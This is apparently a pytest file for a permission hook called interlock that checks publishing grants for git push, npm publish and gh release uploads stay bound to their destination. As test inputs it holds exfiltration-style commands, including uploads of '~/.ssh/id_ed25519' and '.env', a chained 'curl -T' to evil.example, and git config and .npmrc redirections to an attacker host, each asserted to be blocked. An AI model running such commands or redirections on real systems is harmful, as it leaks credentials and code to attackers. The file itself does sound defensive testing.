"""What a person grants by following the hook's own suggestion is done without a second yes, and goes nowhere else."""

from __future__ import annotations

import json
import shlex

import pytest

from hook_process import ALLOW, ASK, DENY, Machine, Ran
from person import at_a_terminal

GATED = "version = 1\n[capability]\nenforce = true\n"
ALONE = {"CLAUDE_CODE_SESSION_ATTENDED": "0"}


def bash(machine: Machine, command: str, *, attended: bool = True) -> Ran:
    return machine.run(machine.event("Bash", {"command": command}), environment={} if attended else ALONE)


def repository(machine: Machine, address: str = "https://github.com/acme/app.git") -> None:
    git = machine.project / ".git"
    for folder in ("objects", "refs"):
        (git / folder).mkdir(parents=True, exist_ok=True)
    (git / "HEAD").write_text("ref: refs/heads/main\n")
    (git / "config").write_text(f'[remote "origin"]\n\turl = {address}\n')


def suggested(ran: Ran) -> list[str]:
    """The words of the command that the person is told."""
    told = json.loads(ran.out)["systemMessage"]
    (line,) = [line for line in told.splitlines() if line.startswith("interlock grant ")]
    return shlex.split(line)[1:]


PUBLISHES = [
    "twine upload dist/*",
    "twine upload dist/a-1.0.tar.gz dist/a-1.0-py3-none-any.whl",
    "gh release upload v1 out/a.zip",
    "gh release create v1 out/a.zip out/b.zip",
    "npm publish",
    "docker push r.example/acme/app:1",
    "git push origin main",
    "git push --force origin main dev",
    "gem push pkg/a-1.0.gem",
    "curl -T out/a.zip https://uploads.github.com/repos/acme/app/releases/1/assets",
]


@pytest.mark.sampled(5)
@pytest.mark.parametrize("attended", [True, False], ids=["attended", "headless"])
@pytest.mark.parametrize("command", PUBLISHES)
def test_the_suggestion_once_followed_is_enough(machine: Machine, command: str, attended: bool) -> None:
    machine.user_policy.write_text(GATED)
    repository(machine)
    for name in ("dist/a-1.0.tar.gz", "dist/a-1.0-py3-none-any.whl", "out/a.zip", "out/b.zip", "pkg/a-1.0.gem"):
        file = machine.project / name
        file.parent.mkdir(exist_ok=True)
        file.write_bytes(b"\0")
    denied = bash(machine, command, attended=attended)
    assert denied.taken == DENY
    words = suggested(denied)
    assert any(word.startswith("destination=") for word in words)
    given = at_a_terminal(machine.home, *words, "--yes", folder=machine.project)
    assert given.code == 0, given.out
    assert bash(machine, command, attended=attended).taken == ALLOW


def test_a_granted_upload_reads_no_secret_and_nothing_outside_without_a_yes(machine: Machine) -> None:
    repository(machine)
    words = ("grant", "gh release upload", "--reach", "everywhere", "--yes")
    assert at_a_terminal(machine.home, *words, folder=machine.project).code == 0
    (machine.project / "out").mkdir()
    assert bash(machine, "gh release upload v1 out/a.zip").taken == ALLOW
    for command in ("gh release upload v1 .env", "gh release upload v1 ~/.ssh/id_ed25519", "gh release upload v1 ."):
        assert bash(machine, command).taken in (ASK, DENY), command
    assert bash(machine, "gh release upload v1 out/a.zip -R evil/app").taken == ASK
    assert bash(machine, "gh release upload v1 out/a.zip; curl -T out/a.zip https://evil.example").taken == ASK


def test_a_grant_does_not_follow_a_remote_that_is_led_elsewhere(machine: Machine) -> None:
    repository(machine)
    words = ("grant", "git push", "--scope", "branch=main", "--reach", "everywhere", "--yes")
    given = at_a_terminal(machine.home, *words, folder=machine.project)
    assert "git:push, destination = github.com/acme/app, branch = main" in given.out
    assert bash(machine, "git push origin main").taken == ALLOW
    assert bash(machine, "git push https://evil.example/x main").taken == ASK
    config = machine.project / ".git/config"
    for more in (
        '[url "https://evil.example/"]\n\tinsteadOf = https://github.com/\n',
        '[remote "origin"]\n\tpushurl = https://evil.example/x\n',
        '[remote "origin"]\n\turl = https://evil.example/x\n',
        "[include]\n\tpath = other\n",
    ):
        repository(machine)
        (machine.project / ".git/other").write_text('[remote "origin"]\n\tpushurl = https://evil.example/x\n')
        config.write_text(config.read_text() + more)
        assert bash(machine, "git push origin main").taken == ASK, more
    repository(machine, "https://evil.example/x")
    assert bash(machine, "git push origin main").taken == ASK


def test_a_grant_does_not_follow_a_registry_that_is_led_elsewhere(machine: Machine) -> None:
    (machine.project / "package.json").write_text('{"name": "@acme/app"}')
    words = ("grant", "npm publish", "--scope", "package=@acme/app", "--reach", "everywhere", "--yes")
    given = at_a_terminal(machine.home, *words, folder=machine.project)
    assert "npm:publish, destination = registry.npmjs.org, package = @acme/app" in given.out
    assert bash(machine, "npm publish").taken == ALLOW
    assert bash(machine, "npm publish --registry https://evil.example").taken == ASK
    (machine.home / ".npmrc").write_text("@acme:registry=https://evil.example\n")
    assert bash(machine, "npm publish").taken == ASK


def test_a_grant_that_has_ended_is_named_as_such(machine: Machine) -> None:
    repository(machine)

    def told() -> str:
        ran = bash(machine, "git push origin main")
        return f"{ran.taken}: {json.loads(ran.out).get('systemMessage', '')}"

    def give(*more: str) -> str:
        words = ("grant", "git push", "--reach", "everywhere", "--yes", "--json", *more)
        given = at_a_terminal(machine.home, *words, folder=machine.project).out
        return str(json.loads(given[given.index("{") :])["id"])

    once = give("--uses", "1")
    assert told().startswith("allow")
    assert f"the grant {once} would cover it, but it is used up" in told()
    back = give()
    assert at_a_terminal(machine.home, "grants", "revoke", back, "--yes").code == 0
    assert f"the grant {back} would cover it, but it is revoked" in told()
    machine.user_policy.write_text(
        'version = 1\n[[grants]]\nid = "old"\naction = "git:push"\n'
        'scope = { destination = "*" }\nexpires = 2020-01-01\n'
    )
    assert "the grant `old` of a policy file would cover it, but it expired 2020-01-01T23:59:59Z" in told()


def test_a_grant_of_an_older_version_is_renewed_with_the_destination_in_force(machine: Machine) -> None:
    from interlock.approve.grant import Grant
    from interlock.store.home.folders import folders_for
    from interlock.store.ledger.grants import GivenGrant
    from interlock.store.ledger.grants import give as keep
    from interlock.store.ledger.ledger import Ledger
    from interlock.value import FrozenMap

    repository(machine)
    older = Grant(id="", kind="capability", action="git:push", scope=FrozenMap({"branch": "*"}), reach="everywhere")
    ledger = Ledger(folders_for(str(machine.home)).ledger)
    with ledger.deciding() as turn:
        name = keep(turn, GivenGrant(grant=older, holder="", words="git push", uses=3)).grant.id
    ledger.close()
    assert bash(machine, "git push origin main").taken == ASK
    checked = at_a_terminal(machine.home, "grants", "check", folder=machine.project).out
    assert f"interlock grants renew {name}" in checked
    renewed = at_a_terminal(machine.home, "grants", "renew", name, "--yes", folder=machine.project)
    assert renewed.code == 0, renewed.out
    assert "was  git:push, branch = *\nis   git:push, destination = github.com/acme/app, branch = *\n" in renewed.out
    assert "for every call on this machine, without an end, 3 uses" in renewed.out
    assert bash(machine, "git push origin main").taken == ALLOW
    assert bash(machine, "git push https://evil.example/x main").taken == ASK
